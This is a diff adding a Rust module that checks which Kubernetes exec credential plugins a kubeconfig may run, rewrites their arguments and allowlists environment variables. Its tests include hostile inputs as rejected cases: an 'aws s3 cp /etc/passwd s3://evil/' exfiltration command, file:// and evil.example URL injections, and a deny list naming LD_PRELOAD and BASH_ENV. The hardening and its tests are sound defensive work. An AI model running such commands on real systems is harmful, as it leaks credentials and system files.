@@ -1,0 +1,330 @@
+//! Exec plugins: which programs a kubeconfig may have run, and with what.
+//!
+//! Their arguments are read into types and written anew, because these programs can do much more than print a token:
+//! `aws` alone copies files anywhere. None of them may say who the job is at a cloud by the runner's files.
+
+use std::path::PathBuf;
+
+use clap::builder::ValueParser;
+use clap::{Args, Parser, Subcommand, ValueEnum};
+use executor_api::ExecutorError;
+
+use super::document::{EnvEntry, ExecEntry};
+use super::written::{Exec, Variable};
+
+/// For a person whose kubeconfig names another.
+const KNOWN: &str = "aws, aws-iam-authenticator, gke-gcloud-auth-plugin and kubelogin";
+
+pub(crate) fn check(entry: &ExecEntry, at: &str) -> Result<Exec, ExecutorError> {
+    let refuse = |field: &str, why: String| ExecutorError::invalid(&format!("{at}/{field}"), why);
+    let api_version = entry.api_version.as_deref().unwrap_or_default();
+    if !["client.authentication.k8s.io/v1", "client.authentication.k8s.io/v1beta1"].contains(&api_version) {
+        let error = "give client.authentication.k8s.io/v1 or client.authentication.k8s.io/v1beta1";
+        return Err(refuse("apiVersion", error.to_owned()));
+    }
+    let given = entry.args.as_deref().unwrap_or_default();
+    let (args, right) = match entry.command.as_str() {
+        "aws" => (Aws::anew(given), "`eks get-token` with --cluster-name, --region and --role-arn"),
+        "aws-iam-authenticator" => (Authenticator::anew(given), "`token` with --cluster-id, --region and --role"),
+        "gke-gcloud-auth-plugin" => (Gke::anew(given), "--use_application_default_credentials or nothing"),
+        "kubelogin" => (
+            Kubelogin::anew(given),
+            "`get-token` with --login, --server-id, --client-id, --tenant-id and --environment",
+        ),
+        _ => {
+            let error = format!(
+                "this program is not on the list: {KNOWN}, each by its bare name; or give the cluster by its name in \
+                 the cloud, or a token"
+            );
+            return Err(refuse("command", error));
+        }
+    };
+    let args = args.ok_or_else(|| {
+        let error = format!("of the arguments of {} only these are taken: {right}", entry.command);
+        refuse("args", error)
+    })?;
+    Ok(Exec {
+        command: PathBuf::from(&entry.command),
+        args,
+        env: entry.env.as_deref().map(|env| check_env(env, at)).transpose()?.unwrap_or_default(),
+        api_version: api_version.to_owned(),
+        provide_cluster_info: entry.provide_cluster_info == Some(true),
+    })
+}
+
+/// The credentials of the kubeconfig's own, and where they count. All that points elsewhere, to the runner's files,
+/// to other servers, to another PATH, is not among them.
+const VARIABLES: [&str; 13] = [
+    "AWS_ACCESS_KEY_ID",
+    "AWS_SECRET_ACCESS_KEY",
+    "AWS_SESSION_TOKEN",
+    "AWS_REGION",
+    "AWS_DEFAULT_REGION",
+    "AWS_STS_REGIONAL_ENDPOINTS",
+    "AAD_LOGIN_METHOD",
+    "AAD_SERVICE_PRINCIPAL_CLIENT_ID",
+    "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET",
+    "AZURE_CLIENT_ID",
+    "AZURE_CLIENT_SECRET",
+    "AZURE_TENANT_ID",
+    "AZURE_ENVIRONMENT",
+];
+
+fn check_env(env: &[EnvEntry], at: &str) -> Result<Vec<Variable>, ExecutorError> {
+    let check = |(index, EnvEntry { name, value }): (usize, &EnvEntry)| {
+        let wrong = |field: &str, why: String| ExecutorError::invalid(&format!("{at}/env/{index}/{field}"), why);
+        if !VARIABLES.contains(&name.as_str()) {
+            let error = format!(
+                "this variable is not the kubeconfig's to set; leave it out: the program is who the job is, and takes \
+                 {}",
+                VARIABLES.join(", ")
+            );
+            return Err(wrong("name", error));
+        }
+        if value.len() > 16 * 1024 || value.chars().any(char::is_control) {
+            return Err(wrong("value", "a value has at most 16 KiB and no control character".to_owned()));
+        }
+        Ok(Variable { name: name.clone(), value: value.clone() })
+    };
+    env.iter().enumerate().map(check).collect()
+}
+
+/// A name, a region, a role: never an option, and never the `file://` or `https://` that `aws` would read.
+fn word() -> ValueParser {
+    ValueParser::from(|text: &str| {
+        let inside = |c: char| c.is_ascii_alphanumeric() || "._:/@+=,-".contains(c);
+        let fits = (1..=512).contains(&text.len()) && text.chars().all(inside);
+        let fits = fits && !text.starts_with(['-', '@']) && !text.contains("://");
+        if fits { Ok(text.to_owned()) } else { Err("no word") }
+    })
+}
+
+/// `--name=value` for what is there.
+fn options<const N: usize>(options: [(&str, Option<String>); N]) -> impl Iterator<Item = String> {
+    options.map(|(name, value)| value.map(|value| format!("--{name}={value}"))).into_iter().flatten()
+}
+
+#[derive(Parser)]
+#[command(no_binary_name = true, disable_help_flag = true, disable_help_subcommand = true)]
+struct Aws {
+    #[arg(long, global = true, value_parser = word())]
+    region: Option<String>,
+    #[arg(long, global = true, value_parser = ["json"])]
+    output: Option<String>,
+    #[command(subcommand)]
+    verb: AwsVerb,
+}
+
+#[derive(Subcommand)]
+enum AwsVerb {
+    Eks(AwsEks),
+}
+
+#[derive(Args)]
+#[command(disable_help_flag = true, disable_help_subcommand = true)]
+struct AwsEks {
+    #[command(subcommand)]
+    verb: AwsEksVerb,
+}
+
+#[derive(Subcommand)]
+enum AwsEksVerb {
+    #[command(disable_help_flag = true)]
+    GetToken {
+        #[arg(long, value_parser = word())]
+        cluster_name: String,
+        #[arg(long, alias = "role", value_parser = word())]
+        role_arn: Option<String>,
+    },
+}
+
+impl Aws {
+    fn anew(args: &[String]) -> Option<Vec<String>> {
+        let Self { region, output: _, verb: AwsVerb::Eks(AwsEks { verb }) } = Self::try_parse_from(args).ok()?;
+        let AwsEksVerb::GetToken { cluster_name, role_arn } = verb;
+        let fixed = ["eks", "get-token", "--output=json"].map(str::to_owned);
+        let given = [("cluster-name", Some(cluster_name)), ("region", region), ("role-arn", role_arn)];
+        Some(fixed.into_iter().chain(options(given)).collect())
+    }
+}
+
+#[derive(Parser)]
+#[command(no_binary_name = true, disable_help_flag = true, disable_help_subcommand = true)]
+enum Authenticator {
+    #[command(disable_help_flag = true)]
+    Token {
+        #[arg(long, short = 'i', value_parser = word())]
+        cluster_id: String,
+        #[arg(long, value_parser = word())]
+        region: Option<String>,
+        #[arg(long, short = 'r', value_parser = word())]
+        role: Option<String>,
+    },
+}
+
+impl Authenticator {
+    fn anew(args: &[String]) -> Option<Vec<String>> {
+        let Self::Token { cluster_id, region, role } = Self::try_parse_from(args).ok()?;
+        let given = [("cluster-id", Some(cluster_id)), ("region", region), ("role", role)];
+        Some(std::iter::once("token".to_owned()).chain(options(given)).collect())
+    }
+}
+
+#[derive(Parser)]
+#[command(no_binary_name = true, disable_help_flag = true)]
+struct Gke {
+    #[arg(long = "use_application_default_credentials")]
+    application_default: bool,
+}
+
+impl Gke {
+    fn anew(args: &[String]) -> Option<Vec<String>> {
+        let Self { application_default } = Self::try_parse_from(args).ok()?;
+        let flag = "--use_application_default_credentials".to_owned();
+        Some(application_default.then_some(flag).into_iter().collect())
+    }
+}
+
+/// Azure's. A secret of a service principal goes through the environment: everybody can read arguments.
+#[derive(Parser)]
+#[command(no_binary_name = true, disable_help_flag = true, disable_help_subcommand = true)]
+enum Kubelogin {
+    #[command(disable_help_flag = true)]
+    GetToken {
+        #[arg(long, short = 'l')]
+        login: Option<Login>,
+        #[arg(long, value_parser = word())]
+        server_id: String,
+        #[arg(long, value_parser = word())]
+        client_id: Option<String>,
+        #[arg(long, short = 't', value_parser = word())]
+        tenant_id: Option<String>,
+        #[arg(long, short = 'e', value_parser = word())]
+        environment: Option<String>,
+    },
+}
+
+/// The ways that ask nobody.
+#[derive(Clone, Copy, ValueEnum)]
+#[value(rename_all = "lower")]
+enum Login {
+    Spn,
+    WorkloadIdentity,
+    Msi,
+    AzureCli,
+}
+
+impl Kubelogin {
+    fn anew(args: &[String]) -> Option<Vec<String>> {
+        let Self::GetToken { login, server_id, client_id, tenant_id, environment } = Self::try_parse_from(args).ok()?;
+        let login = login.and_then(|login| Some(login.to_possible_value()?.get_name().to_owned()));
+        let given = [
+            ("login", login),
+            ("server-id", Some(server_id)),
+            ("client-id", client_id),
+            ("tenant-id", tenant_id),
+            ("environment", environment),
+        ];
+        Some(std::iter::once("get-token".to_owned()).chain(options(given)).collect())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::{Value, json};
+
+    use super::*;
+
+    fn exec(command: &str, args: &[&str], env: &Value) -> Result<Exec, String> {
+        let entry = json!({ "command": command, "args": args, "env": env,
+                            "apiVersion": "client.authentication.k8s.io/v1beta1", "installHint": "x" });
+        check(&serde_json::from_value(entry).unwrap(), "/exec").map_err(|error| error.to_string())
+    }
+
+    #[test]
+    fn the_plugins_of_the_clouds_are_called_anew() {
+        let cases: [(&str, &[&str], &str); 6] = [
+            (
+                "aws",
+                &["--region", "eu-north-1", "eks", "get-token", "--cluster-name", "c", "--output", "json"],
+                "eks get-token --output=json --cluster-name=c --region=eu-north-1",
+            ),
+            (
+                "aws",
+                &["eks", "get-token", "--cluster-name=c", "--role", "arn:aws:iam::1:role/a"],
+                "eks get-token --output=json --cluster-name=c --role-arn=arn:aws:iam::1:role/a",
+            ),
+            ("aws-iam-authenticator", &["token", "-i", "c", "--region", "r"], "token --cluster-id=c --region=r"),
+            ("gke-gcloud-auth-plugin", &[], ""),
+            (
+                "kubelogin",
+                &["get-token", "--server-id", "s", "-l", "workloadidentity", "--tenant-id=t"],
+                "get-token --login=workloadidentity --server-id=s --tenant-id=t",
+            ),
+            ("kubelogin", &["get-token", "--server-id", "s"], "get-token --server-id=s"),
+        ];
+        for (command, args, anew) in cases {
+            assert_eq!(exec(command, args, &Value::Null).unwrap().args.join(" "), anew);
+        }
+    }
+
+    #[test]
+    fn no_program_does_more_than_print_a_token() {
+        let cases: [(&str, &[&str]); 16] = [
+            ("aws", &[]),
+            ("aws", &["s3", "cp", "/etc/passwd", "s3://evil/"]),
+            ("aws", &["eks", "get-token"]),
+            ("aws", &["eks", "get-token", "--cluster-name", "file:///etc/passwd"]),
+            ("aws", &["eks", "get-token", "--cluster-name=fileb:///etc/passwd"]),
+            ("aws", &["eks", "get-token", "--cluster-name", "--debug"]),
+            ("aws", &["eks", "get-token", "--cluster-name=-x"]),
+            ("aws", &["eks", "get-token", "--cluster-name=c", "--endpoint-url=https://evil.example"]),
+            ("aws", &["eks", "get-token", "--cluster-name=c", "--profile=admin"]),
+            ("aws", &["eks", "get-token", "--cluster-name=c", "--", "x"]),
+            ("aws", &["--help"]),
+            ("aws-iam-authenticator", &["server"]),
+            ("gke-gcloud-auth-plugin", &["--impersonate_service_account=x"]),
+            ("kubelogin", &["get-token", "--server-id=s", "--client-secret=x"]),
+            ("kubelogin", &["get-token", "--oidc-issuer-url=https://evil.example"]),
+            ("kubelogin", &["get-token", "--server-id=s", "--login=devicecode"]),
+        ];
+        for (command, args) in cases {
+            let refused = exec(command, args, &Value::Null).err().unwrap_or_default();
+            assert!(refused.starts_with("/exec/args: "), "{command} {args:?}: {refused}");
+        }
+        for command in ["", "sh", "/bin/aws", "./aws", "../aws", "aws ", "AWS", "alethia", "gcloud", "aws\0"] {
+            let refused = exec(command, &[], &Value::Null).err().unwrap_or_default();
+            assert!(refused.starts_with("/exec/command: "), "{command:?}: {refused}");
+        }
+    }
+
+    #[test]
+    fn a_plugins_environment_is_credentials_and_regions() {
+        let with = |name: &str, value: &str| {
+            exec("gke-gcloud-auth-plugin", &[], &json!([{ "name": name, "value": value }])).err().unwrap_or_default()
+        };
+        for name in ["AWS_SECRET_ACCESS_KEY", "AWS_REGION", "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET"] {
+            assert_eq!(with(name, "x"), "");
+        }
+        for name in [
+            "PATH",
+            "HOME",
+            "LD_PRELOAD",
+            "BASH_ENV",
+            "HTTPS_PROXY",
+            "SSL_CERT_FILE",
+            "AWS_PROFILE",
+            "AWS_CONFIG_FILE",
+            "AWS_ENDPOINT_URL",
+            "GOOGLE_APPLICATION_CREDENTIALS",
+            "AZURE_FEDERATED_TOKEN_FILE",
+            "PYTHONPATH",
+            "",
+            "A=B",
+        ] {
+            assert!(with(name, "x").starts_with("/exec/env/0/name: "), "{name}");
+        }
+        assert!(with("AWS_REGION", "a\nb").starts_with("/exec/env/0/value: "));
+        assert!(with("AWS_REGION", &"a".repeat(100_000)).starts_with("/exec/env/0/value: "));
+    }
+}
